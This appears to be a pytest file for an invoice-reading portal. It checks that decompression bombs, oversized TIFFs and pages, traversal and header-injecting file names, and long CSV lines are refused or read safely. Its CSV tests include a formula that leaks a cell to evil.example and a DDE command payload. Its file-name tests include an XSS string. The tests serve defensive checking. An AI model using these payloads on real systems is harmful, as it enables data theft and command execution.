"""Hostile input: every file gives a clear refusal or a safe reading within the limits,
stores nothing half-done, and the next good document is read as if nothing had happened.

The files are made in `tests.hostile_files`; what each costs in memory and time is
measured by `benchmarks/hostile_input.py`, never asserted here.
"""
from __future__ import annotations

import csv
import io
import re
import tracemalloc
from pathlib import Path

import pytest
from markupsafe import escape
from sqlalchemy import func, select

from ocr.files import TIFF, UnreadableFile, check, limits
from ocr.pages import PDF, _page_cache, render_pdf_page
from portal import storage
from portal.cli import export
from portal.extensions import db
from portal.intake.processing import process_document
from portal.intake.services import UploadRefused, accept_upload, stored_file_name
from portal.masterdata.importer import MAX_LINE_BYTES, LineTooLong, read_text
from portal.models import AuditEvent, Document, Status, Supplier
from tests.helpers import minimal_pdf
from tests.hostile_files import (
    HOSTILE_FILES,
    HOSTILE_NAME,
    HostileFile,
    blank_page_of_14400_points,
    one_page_pdf,
    pdf_of_size,
    tiff_of_pages,
    zeros_deflated,
)

REFUSED = [h for h in HOSTILE_FILES if h.refusal]
READ_SAFELY = [h for h in HOSTILE_FILES if not h.refusal]
CLAIMED_TYPES = {".pdf": PDF, ".png": "image/png", ".tif": TIFF}


def stored_files(app) -> list[Path]:
    root = Path(app.config["STORAGE_DIR"])
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def count(model) -> int:
    return db.session.scalar(select(func.count()).select_from(model))


def within_the_pixel_limit(width: int, height: int) -> bool:
    """Whether a page of `width` x `height` pixels keeps to the limit."""
    return width * height <= limits().page_pixels


def next_good_document_is_read() -> None:
    """The worker is still there for the next job: a good invoice after the bad file is read."""
    document = accept_upload("next.pdf", minimal_pdf("Invoice No. INV-NEXT"))
    db.session.commit()
    process_document(document.id)
    document = db.session.get(Document, document.id)
    assert document.status == Status.PROCESSED.value
    assert "INV-NEXT" in document.pages[0].text


def stored_without_a_check(hostile: HostileFile) -> Document:
    """The file as a document a worker would be given had it been stored before the limits
    existed: in storage, queued, its type as its name claims."""
    data = hostile.make()
    document = Document(file_name=hostile.name, sha256=storage.store(data), size=len(data), page_count=1,
                        mime_type=CLAIMED_TYPES[Path(hostile.name).suffix], status=Status.QUEUED.value)
    db.session.add(document)
    db.session.commit()
    return document


# --- files refused ---------------------------------------------------------------------------

@pytest.mark.parametrize("hostile", REFUSED, ids=[h.case for h in REFUSED])
def test_a_hostile_file_is_refused_at_upload_with_its_reason_and_nothing_is_stored(app, hostile):
    with pytest.raises(UploadRefused, match=re.escape(hostile.refusal)):
        accept_upload(hostile.name, hostile.make())
    db.session.commit()
    assert count(Document) == count(AuditEvent) == 0
    assert stored_files(app) == []
    next_good_document_is_read()


@pytest.mark.parametrize("hostile", REFUSED, ids=[h.case for h in REFUSED])
def test_a_hostile_file_stored_before_the_limits_fails_in_the_worker_and_keeps_nothing_half_read(app, hostile):
    document = stored_without_a_check(hostile)
    process_document(document.id)
    document = db.session.get(Document, document.id)
    assert document.status == Status.FAILED.value
    assert document.error.startswith("UnreadableFile: the ")
    assert (document.pages, document.lines, document.tax_lines, document.total) == ([], [], [], None)
    next_good_document_is_read()


def test_a_file_one_byte_over_the_size_limit_is_refused_and_nothing_is_stored(app):
    limit = app.config["MAX_UPLOAD_MB"] * 1024 * 1024
    with pytest.raises(UploadRefused, match=f"larger than the {app.config['MAX_UPLOAD_MB']} MB limit"):
        accept_upload("big.pdf", pdf_of_size(limit + 1))
    db.session.commit()
    assert count(Document) == 0
    assert stored_files(app) == []
    next_good_document_is_read()


def test_a_file_of_exactly_the_size_limit_is_accepted(app):
    limit = app.config["MAX_UPLOAD_MB"] * 1024 * 1024
    document = accept_upload("big.pdf", pdf_of_size(limit))
    assert document.size == limit


def test_the_upload_page_gives_the_size_refusal_and_stores_nothing(signed_in, client, auth, app):
    signed_in("clerk")
    app.config["MAX_UPLOAD_MB"] = 1
    token = auth.csrf_token("/upload")
    response = client.post("/upload", content_type="multipart/form-data", data={
        "files": [(io.BytesIO(pdf_of_size(1024 * 1024 + 1)), "big.pdf")], "csrf_token": token})
    assert response.status_code == 422
    assert "larger than the 1 MB limit" in response.get_data(as_text=True)
    assert stored_files(app) == []


def test_a_tiff_of_many_pages_is_refused_before_its_pages_are_decoded():
    with pytest.raises(UnreadableFile, match="more than 100 pages"):
        check(tiff_of_pages(1000))


def test_the_page_limit_comes_from_the_environment(monkeypatch):
    monkeypatch.setenv("PORTAL_MAX_PAGES", "1000")
    assert check(tiff_of_pages(1000)).page_count == 1000
    monkeypatch.setenv("PORTAL_MAX_PAGES", "2")
    with pytest.raises(UnreadableFile, match="more than 2 pages"):
        check(tiff_of_pages(3))


def test_a_malformed_limit_in_the_environment_is_named(monkeypatch):
    monkeypatch.setenv("PORTAL_MAX_DECOMPRESSED_MB", "lots")
    with pytest.raises(ValueError, match="PORTAL_MAX_DECOMPRESSED_MB"):
        limits()


def test_the_decompression_limit_comes_from_the_environment(monkeypatch):
    eight_mb_of_zeros = one_page_pdf(zeros_deflated(8 * 1024 * 1024), b"/Filter /FlateDecode")
    monkeypatch.setenv("PORTAL_MAX_DECOMPRESSED_MB", "16")
    assert check(eight_mb_of_zeros).page_count == 1
    monkeypatch.setenv("PORTAL_MAX_DECOMPRESSED_MB", "4")
    with pytest.raises(UnreadableFile, match="more than 4 MB when decompressed"):
        check(eight_mb_of_zeros)


def test_a_refusal_is_given_in_japanese_to_a_japanese_reader(app):
    from flask_babel import force_locale

    with force_locale("ja"), pytest.raises(UploadRefused) as refused:
        accept_upload("fax.tif", tiff_of_pages(1000))
    assert "100" in str(refused.value)
    assert "pages" not in str(refused.value)


# --- files read safely -----------------------------------------------------------------------

@pytest.mark.parametrize("hostile", READ_SAFELY, ids=[h.case for h in READ_SAFELY])
def test_a_hostile_file_that_can_be_read_is_read_within_the_pixel_limit(app, hostile):
    document = accept_upload(hostile.name, hostile.make())
    db.session.commit()
    process_document(document.id)
    document = db.session.get(Document, document.id)
    assert document.status == Status.PROCESSED.value
    assert all(within_the_pixel_limit(page.width, page.height) for page in document.pages)
    next_good_document_is_read()


def test_a_page_of_14400_points_is_drawn_within_the_pixel_limit():
    image = render_pdf_page(blank_page_of_14400_points(), 0)
    assert within_the_pixel_limit(image.width, image.height)
    assert image.width == image.height


def test_the_pixel_limit_comes_from_the_environment(monkeypatch):
    monkeypatch.setenv("PORTAL_MAX_PAGE_MEGAPIXELS", "1")
    image = render_pdf_page(blank_page_of_14400_points(), 0)
    assert within_the_pixel_limit(image.width, image.height)
    assert image.width == 1000


def test_an_ordinary_page_is_still_drawn_at_200_dpi():
    image = render_pdf_page(minimal_pdf(), 0)
    assert image.size == (round(595 * 200 / 72), round(842 * 200 / 72))


def test_the_preview_of_a_huge_page_is_drawn_within_the_limit_and_not_remembered(signed_in, client, app):
    signed_in("clerk")
    document = accept_upload("poster.pdf", blank_page_of_14400_points())
    db.session.commit()
    process_document(document.id)
    remembered = _page_cache.size
    response = client.get(f"/documents/{document.id}/pages/1.png")
    assert response.status_code == 200
    from PIL import Image

    assert Image.open(io.BytesIO(response.data)).width <= 1400
    assert _page_cache.size == remembered


def test_a_preview_of_a_file_beyond_the_limits_is_never_drawn(signed_in, client, app):
    signed_in("clerk")
    bomb = next(h for h in REFUSED if h.name == "flate-bomb.pdf")
    document = stored_without_a_check(bomb)
    assert client.get(f"/documents/{document.id}/pages/1.png").status_code == 404


# --- file names ------------------------------------------------------------------------------

def test_a_file_name_loses_its_folders_and_line_breaks_and_keeps_its_html_as_text():
    assert stored_file_name(HOSTILE_NAME) == "passwd<img src=x onerror=alert(1)> X-Injected: yes .pdf"
    assert stored_file_name("..\\..\\windows\\請求書.pdf") == "請求書.pdf"
    assert stored_file_name("../..") == "upload"
    assert stored_file_name("invoice\u202efdp.exe") == "invoice fdp.exe"


def test_a_hostile_file_name_is_stored_safely_and_its_original_downloads_byte_for_byte(signed_in, client, app):
    signed_in("clerk")
    content = minimal_pdf()
    document = accept_upload(HOSTILE_NAME, content)
    db.session.commit()
    assert document.file_name == stored_file_name(HOSTILE_NAME)
    listing = client.get("/").get_data(as_text=True)
    assert str(escape(document.file_name)) in listing
    assert "<img src=x" not in listing
    response = client.get(f"/documents/{document.id}/original")
    assert response.status_code == 200
    assert response.data == content
    assert "X-Injected" not in response.headers
    assert "\r" not in response.headers["Content-Disposition"] and "\n" not in response.headers["Content-Disposition"]


def test_a_name_with_a_line_break_ingested_from_the_command_line_downloads(runner, signed_in, client, tmp_path):
    path = tmp_path / "invoice\r\n<b>1.pdf"
    path.write_bytes(minimal_pdf())
    assert runner.invoke(args=["ingest", str(path)]).exit_code == 0
    document = db.session.scalars(select(Document)).one()
    assert document.file_name == "invoice <b>1.pdf"
    signed_in("clerk")
    response = client.get(f"/documents/{document.id}/original")
    assert response.status_code == 200
    assert response.data == path.read_bytes()


def test_a_name_stored_with_a_line_break_before_names_were_cleaned_still_downloads(signed_in, client):
    content = minimal_pdf()
    document = Document(file_name="old\r\nname.pdf", sha256=storage.store(content), size=len(content),
                        page_count=1, mime_type=PDF, status=Status.QUEUED.value)
    db.session.add(document)
    db.session.commit()
    signed_in("clerk")
    response = client.get(f"/documents/{document.id}/original")
    assert response.status_code == 200
    assert response.data == content


# --- master data CSVs ------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
ORDERS = "po_number,supplier_code,order_date,currency,line_no,sku,description,quantity,unit_price,tax_rate\n"


def master_folder(tmp_path: Path, suppliers: list[list[str]]) -> Path:
    """The ERP's three files, with these supplier rows (code, name, number, currency, address)."""
    folder = tmp_path / "master"
    folder.mkdir()
    with (folder / "suppliers.csv").open("w", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["supplier_code", "name", "registration_number", "currency", "address"])
        writer.writerows(suppliers)
    (folder / "purchase_orders.csv").write_text(ORDERS)
    return folder


def test_a_formula_in_a_csv_cell_is_imported_as_text_and_shown_as_text(runner, signed_in, client, tmp_path):
    folder = master_folder(tmp_path, [["SUP-1", FORMULA, "", "JPY", "@SUM(1+1)*cmd|' /C calc'!A0"]])
    result = runner.invoke(args=["import-master", str(folder)])
    assert result.exit_code == 0, result.output
    supplier = db.session.scalars(select(Supplier)).one()
    assert (supplier.name, supplier.address) == (FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0")
    signed_in("clerk")
    assert str(escape(FORMULA)) in client.get("/suppliers").get_data(as_text=True)


def test_the_portal_writes_no_csv_a_spreadsheet_would_run(runner):
    # The export is JSON; a CSV export would have to escape cells that start with = + - @.
    [format_option] = [p for p in export.params if p.name == "fmt"]
    assert list(format_option.type.choices) == ["json"]


def test_a_50_mb_line_in_a_csv_is_refused_with_its_line_and_nothing_is_imported(runner, tmp_path):
    folder = master_folder(tmp_path, [["SUP-1", "Example", "", "JPY", "Tokyo"]])
    with (folder / "suppliers.csv").open("a") as file:
        file.write("SUP-2," + "A" * 50 * 1024 * 1024 + ",,JPY,Osaka\n")
    result = runner.invoke(args=["import-master", str(folder)])
    assert result.exit_code != 0
    assert "suppliers.csv:3: the line is longer than 64 KB" in result.output
    assert "nothing was imported" in result.output
    assert count(Supplier) == 0


def test_a_long_line_is_refused_having_read_no_more_of_it_than_the_limit(tmp_path):
    path = tmp_path / "suppliers.csv"
    path.write_bytes(b"supplier_code,name\n" + b"A" * 50 * 1024 * 1024 + b"\n")
    tracemalloc.start()
    try:
        with pytest.raises(LineTooLong) as refused:
            read_text(path)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert refused.value.line == 2
    assert peak < 4 * MAX_LINE_BYTES


def test_a_cell_over_the_csv_readers_own_limit_is_a_problem_not_a_crash(runner, tmp_path):
    lines = "\n".join("B" * 1000 for _ in range(200))  # 200 KB in one quoted cell, no line over the limit
    folder = master_folder(tmp_path, [["SUP-1", lines, "", "JPY", "Tokyo"]])
    result = runner.invoke(args=["import-master", str(folder)])
    assert result.exit_code != 0
    assert "not a valid CSV line (field larger than field limit" in result.output
    assert count(Supplier) == 0
